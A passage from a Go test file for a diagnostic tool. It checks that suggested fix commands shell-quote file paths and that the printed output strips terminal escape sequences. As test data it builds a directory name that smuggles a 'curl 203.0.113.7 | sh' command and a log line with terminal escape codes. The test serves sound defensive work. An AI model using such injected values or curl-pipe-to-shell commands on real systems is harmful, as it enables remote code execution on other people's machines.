}

// TestFixQuotesItsWords: a fix command names a path as one shell word
// whatever the path holds, and nothing doctor prints carries a terminal
// escape, whoever wrote the file it quotes.
func TestFixQuotesItsWords(t *testing.T) {
	h := newHost(t)
	dir := filepath.Join(h.dir, "it's; curl 203.0.113.7 | sh #")
	h.mkdir(dir)
	h.opt.LogFile = filepath.Join(dir, "hook.log")
	h.write(filepath.Join(h.dir, "elsewhere"), "", 0o640)
	if err := os.Symlink(filepath.Join(h.dir, "elsewhere"), h.opt.LogFile); err != nil {
		t.Fatal(err)
	}
	quoted := "'" + strings.ReplaceAll(h.opt.LogFile, "'", `'\''`) + "'"
	want(t, h.run(), "log", Fail, "is a symlink", "sudo rm "+quoted)
	if out, err := exec.Command("sh", "-c", `printf %s `+quoted).Output(); err != nil || string(out) != h.opt.LogFile {
		t.Errorf("the shell reads %s as %q (%v), want the path", quoted, out, err)
	}

	os.Remove(h.opt.LogFile)
	h.write(h.opt.LogFile, `time="2026-11-23T03:58:00Z" level=error msg="x"`+"\x1b[2J\x1b]0;owned\x07\r\n", 0o640)
	rep := h.run()
	want(t, rep, "log", Warn, `msg="x"\x1b[2J\x1b]0;owned\x07`, "")
	var text bytes.Buffer
	if err := rep.WriteText(&text); err != nil {
		t.Fatal(err)
	}
	if strings.ContainsAny(text.String(), "\x1b\x07\r") {
		t.Errorf("doctor prints a terminal escape:\n%q", text.String())
	}
}
